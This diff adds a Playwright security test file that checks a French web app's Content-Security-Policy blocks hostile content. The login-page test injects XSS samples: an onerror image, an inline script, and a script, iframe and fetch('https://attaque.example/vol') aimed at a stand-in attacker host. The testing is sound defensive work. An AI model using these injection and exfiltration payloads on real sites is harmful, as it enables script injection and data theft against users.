@@ -1,0 +1,89 @@
+import { expect, type Page } from '@playwright/test';
+import type { ScenarioName } from '../../../mock-server/scenarios/scenarios';
+import { signIn } from '../support/accounts';
+import { type Role, screens, screenTitle, settle } from '../support/screens';
+import { test } from './site';
+
+/** For each role, the situation in which every field of every answer is as hostile as it can be. */
+const situations = {
+  visiteur: 'visiteur',
+  attente: 'compte-en-attente',
+  camille: 'textes-extremes',
+  admin: 'admin-textes-extremes',
+} as const satisfies Record<Role, ScenarioName>;
+
+interface Watch {
+  violations: string[];
+  /** Origins of everything that was asked for. */
+  origins: Set<string>;
+  /** Everything that was asked for, whole. */
+  urls: string[];
+  attacks: string[];
+}
+
+/** Notes what the policy refused, what left the origin, and what an answer managed to run. */
+const watch = async (page: Page): Promise<Watch> => {
+  const seen: Watch = { violations: [], origins: new Set(), urls: [], attacks: [] };
+  await page.exposeFunction('noteViolation', (text: string) => seen.violations.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) =>
+      Reflect.get(window, 'noteViolation')(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
+    );
+  });
+  page.on('dialog', (dialog) => {
+    seen.attacks.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    seen.urls.push(request.url());
+    if (request.url().startsWith('http')) seen.origins.add(new URL(request.url()).origin);
+  });
+  // Nothing leaves the machine, whatever the page asks for.
+  await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => route.fulfill({ json: { country_code: 'FR' } }));
+  return seen;
+};
+
+for (const screen of screens) {
+  test(`${screenTitle(screen)}, données hostiles : rien que la politique refuse, rien qui sorte`, async ({
+    page,
+    site,
+  }) => {
+    const session = await site.mock.enter(situations[screen.role]);
+    const seen = await watch(page);
+    if (session) await signIn(page, session);
+    await page.goto(screen.path);
+    await settle(page, /./);
+    await screen.open?.(page);
+    expect(seen.violations).toEqual([]);
+    expect(seen.attacks).toEqual([]);
+    const lookup = screen.path === '/register' ? ['https://ipapi.co'] : [];
+    expect([site.url, ...lookup]).toEqual(expect.arrayContaining([...seen.origins]));
+    if (session) expect(seen.urls.filter((url) => url.includes(session.access_token))).toEqual([]);
+  });
+}
+
+test('la politique refuse ce qu’une faille laisserait passer', async ({ page }) => {
+  const seen = await watch(page);
+  const answered: string[] = [];
+  page.on('response', (response) => answered.push(new URL(response.url()).hostname));
+  await page.goto('/login');
+  await settle(page, 'Bon retour !');
+  await page.evaluate(() => {
+    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="document.title = \'attaqué\'">');
+    const script = document.createElement('script');
+    script.textContent = "document.title = 'attaqué'";
+    document.body.append(script);
+    const foreign = document.createElement('script');
+    foreign.src = 'https://attaque.example/a.js';
+    document.body.append(foreign);
+    const frame = document.createElement('iframe');
+    frame.src = 'https://attaque.example/';
+    document.body.append(frame);
+  });
+  await page.evaluate(() => fetch('https://attaque.example/vol').catch(() => null));
+  await expect
+    .poll(() => seen.violations.map((text) => text.split(' ')[0]).toSorted())
+    .toEqual(['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
+  await expect(page).not.toHaveTitle(/attaqué/);
+  expect(answered).not.toContain('attaque.example');
+});
